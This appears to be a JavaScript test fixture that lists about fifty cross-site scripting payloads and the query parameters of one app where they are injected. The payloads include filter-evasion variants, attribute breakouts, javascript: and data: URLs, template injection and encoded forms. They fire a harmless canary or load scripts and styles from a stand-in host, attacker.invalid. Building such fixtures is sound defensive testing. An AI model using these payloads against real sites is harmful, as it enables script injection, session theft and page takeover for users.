/** What people try in order to run a script of theirs in somebody else's page, as values for links and messages. */

/** Does what a script that got in would do: a canary that is heard of, and a request that is seen. */
const SONG = 'window.pwned=1';
const ELSEWHERE = 'https://attacker.invalid/x';

/** By kind: markup, markup that breaks out of where it stands, addresses that are scripts, and text that is written in some code. */
export const VECTORS = [
  `<script>${SONG}</script>`,
  `<script src=${ELSEWHERE}.js></script>`,
  `<ScRiPt >${SONG}</sCrIpT >`,
  `<scr<script>ipt>${SONG}</scr</script>ipt>`,
  `<img src=x onerror=${SONG}>`,
  `<img src=${ELSEWHERE}.png>`,
  `<svg onload=${SONG}>`,
  `<svg><script>${SONG}</script></svg>`,
  `<svg><animate onbegin=${SONG} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${SONG}</script></svg>#x">`,
  `<math><mi xlink:href="javascript:${SONG}">1</mi></math>`,
  `<body onload=${SONG}>`,
  `<iframe srcdoc="<script>parent.${SONG}</script>"></iframe>`,
  `<iframe src="javascript:parent.${SONG}"></iframe>`,
  `<object data="javascript:${SONG}">`,
  `<embed src="${ELSEWHERE}.swf">`,
  `<input autofocus onfocus=${SONG}>`,
  `<details open ontoggle=${SONG}>`,
  `<video><source onerror=${SONG}></video>`,
  `<link rel=stylesheet href=${ELSEWHERE}.css>`,
  `<style>@import "${ELSEWHERE}.css";</style>`,
  `<base href=${ELSEWHERE}/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${SONG}">`,
  `<form action=javascript:${SONG}><input type=submit></form>`,
  `<a href="javascript:${SONG}" autofocus>1</a>`,
  `<template><img src=x onerror=${SONG}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${SONG}>">`,
  `<!--><img src=x onerror=${SONG}>-->`,
  `"><img src=x onerror=${SONG}>`,
  `'><svg/onload=${SONG}>`,
  `" autofocus onfocus=${SONG} x="`,
  `' onmouseover='${SONG}' style='position:fixed;inset:0`,
  `</title><img src=x onerror=${SONG}>`,
  `</textarea><img src=x onerror=${SONG}>`,
  `</script><script>${SONG}</script>`,
  `]]><img src=x onerror=${SONG}>`,
  `javascript:${SONG}`,
  `java\tscript:${SONG}`,
  `data:text/html,<script>parent.${SONG}</script>`,
  `\${${SONG}}`,
  `{{constructor.constructor("${SONG}")()}}`,
  `'-(${SONG})-'`,
  `";${SONG};//`,
  `\u2028${SONG}\u2028`,
  `&lt;img src=x onerror=${SONG}&gt;`,
  `&#60;img src=x onerror=${SONG}&#62;`,
  `\\u003cimg src=x onerror=${SONG}\\u003e`,
  `%3Cimg src=x onerror=${SONG}%3E`,
  `\u0000<img src=x onerror=${SONG}>`,
  `\ufeff<img\u00a0src=x onerror=${SONG}>`,
];

/** Where in a link a value may stand. */
export const PLACES = [
  (value) => `?count=${value}`,
  (value) => `?count=10&sleep=3:${value},${value}:1`,
  (value) => `?modes=sync,${value}`,
  (value) => `?preset=${value}`,
  (value) => `?story=${value}&sleep=1:1`,
  (value) => `?theme=${value}&embed=${value}&${value}=${value}`,
];
